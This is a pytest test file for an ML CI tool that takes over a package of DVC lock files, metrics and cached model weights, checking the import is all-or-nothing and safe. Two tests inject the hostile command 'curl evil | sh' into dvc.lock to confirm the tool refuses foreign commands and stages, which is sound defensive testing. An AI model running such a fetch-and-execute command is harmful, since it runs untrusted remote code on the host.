"""Taking over: everything is put in place, or nothing is changed."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from ml_ci.artifacts import paths
from ml_ci.artifacts.golden import GoldenSnapshot
from ml_ci.errors import UserError
from ml_ci.takeover.checking import missing_objects
from ml_ci.takeover.package import read_package
from ml_ci.takeover.taking import Taken, take_over
from tests.builders.datasets import put
from tests.builders.golden import answers
from tests.builders.packages import (
    OURS,
    PARAMS,
    THEIRS,
    FakeDvc,
    commit,
    git,
    here,
    make_checkout,
    md5,
    measured,
    state_of,
    write_package,
)


@pytest.fixture
def checkout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "checkout"
    make_checkout(folder)
    monkeypatch.chdir(folder)
    return folder


def take(folder: Path, files: dict[str, bytes], dvc: FakeDvc | None = None) -> Taken:
    repository, storage = here()
    package = read_package(write_package(folder / "package", files))
    dvc = dvc or FakeDvc(storage=storage)
    return take_over(package, repository, storage, dvc, dvc.complete)


def head(checkout: Path) -> str:
    return git(checkout, "rev-parse", "HEAD").strip()


def theirs(checkout: Path) -> dict[str, bytes]:
    return measured(THEIRS, commit=head(checkout), accuracy=0.8)


def test_take_over__puts_lock_and_metrics_in_place(checkout: Path, tmp_path: Path) -> None:
    files = theirs(checkout)

    take(tmp_path, files)

    names = [name for name in files if name == "dvc.lock" or name.startswith("metrics/")]
    assert {name: files[name] for name in names} == {
        name: (checkout / name).read_bytes() for name in names
    }


def test_take_over__brings_every_object_into_the_cache(checkout: Path, tmp_path: Path) -> None:
    files = theirs(checkout)

    take(tmp_path, files)

    objects = [name for name in files if name.startswith("cache/")]
    assert {name: files[name] for name in objects} == {
        name: (checkout / ".dvc" / name).read_bytes() for name in objects
    }


def test_take_over__checks_out_and_pushes_weights_and_models(
    checkout: Path, tmp_path: Path
) -> None:
    dvc = FakeDvc(storage=here()[1])

    take(tmp_path, theirs(checkout), dvc)

    assert ["checkout --quiet trained models", "push trained models"] == dvc.calls


def test_take_over__has_all_of_it_in_the_remote_listings_last(
    checkout: Path, tmp_path: Path
) -> None:
    dvc, files = FakeDvc(storage=here()[1]), theirs(checkout)

    take(tmp_path, files, dvc)

    objects = {Path(name) for name in files if name.startswith("cache/")}
    expected = {path.parent.name + path.name: (".dvc" / path) for path in objects}
    assert expected == {md5: path.relative_to(checkout) for md5, path in dvc.completed.items()}
    assert [False, False, True, True] == [md5.endswith(".dir") for md5 in dvc.completed]


def test_take_over__says_what_changed(checkout: Path, tmp_path: Path) -> None:
    taken = take(tmp_path, theirs(checkout))

    # predictions.csv is the same
    files = ("dvc.lock", "metrics/metrics.json", "metrics/golden.json", "metrics/inputs.json")
    assert (
        Taken(
            files=tuple(map(Path, files)),
            outputs=(paths.TRAINED, paths.MODELS),
            objects=4,
            metrics={"accuracy": (0.9, 0.8)},
        )
        == taken
    )


def test_take_over__of_the_same_weights_changes_nothing(checkout: Path, tmp_path: Path) -> None:
    taken = take(tmp_path, measured(OURS, commit=head(checkout)))

    assert Taken(files=(), outputs=(), objects=0, metrics={}) == taken


def test_take_over__accepts_another_commit_of_the_same_inputs(
    checkout: Path, tmp_path: Path
) -> None:
    files = theirs(checkout)
    put(checkout / "README.md", b"more words\n")
    commit(checkout)

    assert (paths.TRAINED, paths.MODELS) == take(tmp_path, files).outputs


@pytest.mark.parametrize("error", [UserError, KeyboardInterrupt], ids=["failure", "Ctrl-C"])
@pytest.mark.parametrize("stop_at", ["checkout", "push"])
def test_take_over__leaves_everything_as_it_was_when_dvc_does_not_end_well(
    checkout: Path, tmp_path: Path, stop_at: str, error: type[BaseException]
) -> None:
    before = state_of(checkout)

    with pytest.raises(error):
        take(tmp_path, theirs(checkout), FakeDvc(storage=here()[1], stop_at=stop_at, error=error))

    assert before == state_of(checkout)


def test_take_over__removes_the_weights_again_where_there_were_none(
    checkout: Path, tmp_path: Path
) -> None:
    (checkout / "trained/weights.safetensors").unlink()
    (checkout / "trained").rmdir()

    with pytest.raises(UserError):
        take(tmp_path, theirs(checkout), FakeDvc(storage=here()[1], stop_at="push"))

    assert not (checkout / "trained").exists()


ANOTHER = b"weights of another training"


def test_take_over__refuses_to_replace_weights_that_nothing_could_bring_back(
    checkout: Path, tmp_path: Path
) -> None:
    put(checkout / "trained/weights.safetensors", ANOTHER)
    before = state_of(checkout)

    with pytest.raises(UserError) as caught:
        take(tmp_path, theirs(checkout))

    assert (
        "trained/weights.safetensors would be replaced, and DVC's cache does not have it: "
        "nothing could bring it back",
        before,
    ) == (caught.value.what, state_of(checkout))


def test_take_over__replaces_weights_that_the_cache_has(checkout: Path, tmp_path: Path) -> None:
    put(checkout / "trained/weights.safetensors", ANOTHER)
    put(checkout / "trained/.DS_Store", b"left behind")
    put(here()[1].place(md5(ANOTHER)), ANOTHER)

    take(tmp_path, theirs(checkout))

    assert THEIRS == (checkout / "trained/weights.safetensors").read_bytes()
    assert [] == list(checkout.glob(".*.scratch*"))


def test_take_over__replaces_weights_that_it_brings_itself(checkout: Path, tmp_path: Path) -> None:
    put(checkout / "trained/weights.safetensors", THEIRS)

    assert 4 == take(tmp_path, theirs(checkout)).objects


def test_missing_objects__have_every_file_before_the_listing_that_names_it(
    checkout: Path, tmp_path: Path
) -> None:
    package = read_package(write_package(tmp_path / "package", theirs(checkout)))

    missing = missing_objects(package, here()[1])

    assert [False, False, True, True] == [md5.endswith(".dir") for md5 in missing]


def test_take_over__puts_back_the_weights_that_were_there_whatever_dvc_lock_says(
    checkout: Path, tmp_path: Path
) -> None:
    put(checkout / "trained/weights.safetensors", ANOTHER)
    put(here()[1].place(md5(ANOTHER)), ANOTHER)
    before = state_of(checkout)

    with pytest.raises(UserError):
        take(tmp_path, theirs(checkout), FakeDvc(storage=here()[1], stop_at="push"))

    assert before == state_of(checkout)


def test_take_over__mends_an_object_that_is_damaged_in_the_cache(
    checkout: Path, tmp_path: Path
) -> None:
    place = here()[1].place(md5(THEIRS))
    put(place, b"half of i")
    place.chmod(0o444)

    assert (4, THEIRS) == (take(tmp_path, theirs(checkout)).objects, place.read_bytes())


def golden(weights: bytes, **cat: float) -> bytes:
    snapshot = answers(hashlib.sha256(weights).hexdigest(), **cat)
    return json.dumps(snapshot.document()).encode()


@pytest.mark.parametrize(
    ("accepted", "expected"),
    [
        pytest.param(golden(THEIRS, a=0.1), answers(a=0.1, b=0.8), id="of-the-same-weights"),
        pytest.param(golden(OURS, a=0.1), answers(a=0.9, b=0.8), id="of-other-weights"),
        pytest.param(b"<<<<<<<", answers(a=0.9, b=0.8), id="damaged"),
    ],
)
def test_take_over__what_was_accepted_here_stays(
    checkout: Path, tmp_path: Path, accepted: bytes, expected: GoldenSnapshot
) -> None:
    files = {**theirs(checkout), "metrics/golden.json": golden(THEIRS, a=0.9, b=0.8)}
    put(checkout / "metrics/golden.json", accepted)
    commit(checkout)

    take(tmp_path, files)

    there = GoldenSnapshot.of_text((checkout / "metrics/golden.json").read_bytes())
    assert expected.answers == there.answers
    assert () == take(tmp_path, files).files


@pytest.mark.parametrize(
    ("changes", "what"),
    [
        pytest.param(
            {"params.yaml": b"train: {epochs: 5}\n"},
            "which differs in what counts (train: `train` changed in params.yaml)",
            id="params",
        ),
        pytest.param(
            {"train.py": b"print('otherwise')\n"},
            "which differs in what counts (train: `train.py` changed)",
            id="code",
        ),
    ],
)
def test_take_over__refuses_what_was_measured_of_other_inputs(
    checkout: Path, tmp_path: Path, changes: dict[str, bytes], what: str
) -> None:
    files = theirs(checkout)
    for name, content in changes.items():
        put(checkout / name, content)
    commit(checkout)

    with pytest.raises(UserError) as caught:
        take(tmp_path, files)

    assert caught.value.what.endswith(what), caught.value.what


def test_take_over__refuses_a_foreign_command(checkout: Path, tmp_path: Path) -> None:
    files = theirs(checkout)
    files["dvc.lock"] = files["dvc.lock"].replace(b"python train.py", b"curl evil | sh")

    with pytest.raises(UserError, match="its command changed"):
        take(tmp_path, files)


def test_take_over__refuses_a_foreign_stage(checkout: Path, tmp_path: Path) -> None:
    files = theirs(checkout)
    files["dvc.lock"] = files["dvc.lock"].replace(
        b'"stages": {', b'"stages": {"more": {"cmd": "curl evil | sh"},'
    )

    with pytest.raises(UserError, match="has no stage `more`"):
        take(tmp_path, files)


def test_take_over__refuses_to_replace_changes_that_are_not_committed(
    checkout: Path, tmp_path: Path
) -> None:
    put(checkout / "metrics/metrics.json", b'{"accuracy": 1.0}')

    with pytest.raises(UserError) as caught:
        take(tmp_path, theirs(checkout))

    assert "metrics/metrics.json would be replaced" in caught.value.what


def test_take_over__minds_no_other_changes(checkout: Path, tmp_path: Path) -> None:
    put(checkout / "params.yaml", PARAMS.encode() + b"# a note\n")

    assert (paths.TRAINED, paths.MODELS) == take(tmp_path, theirs(checkout)).outputs


def test_take_over__twice_before_the_commit_changes_nothing_more(
    checkout: Path, tmp_path: Path
) -> None:
    take(tmp_path, theirs(checkout))

    assert () == take(tmp_path, theirs(checkout)).files


def _object(files: dict[str, bytes], content: bytes) -> str:
    return next(name for name in files if files[name] == content)


def test_take_over__refuses_an_object_that_is_not_what_its_name_says(
    checkout: Path, tmp_path: Path
) -> None:
    files = theirs(checkout)
    files[_object(files, THEIRS)] = b"weights of somebody else"
    before = state_of(checkout)

    with pytest.raises(UserError, match="its content is not what its name says"):
        take(tmp_path, files)

    assert before == state_of(checkout)


def test_take_over__refuses_a_missing_object(checkout: Path, tmp_path: Path) -> None:
    files = theirs(checkout)
    del files[_object(files, THEIRS)]

    with pytest.raises(UserError, match="is missing"):
        take(tmp_path, files)


def test_take_over__refuses_objects_that_dvc_lock_does_not_name(
    checkout: Path, tmp_path: Path
) -> None:
    files = {**theirs(checkout), f"cache/files/md5/ab/{'c' * 30}": b"more"}

    with pytest.raises(UserError, match=f"does not name the object ab{'c' * 30}"):
        take(tmp_path, files)
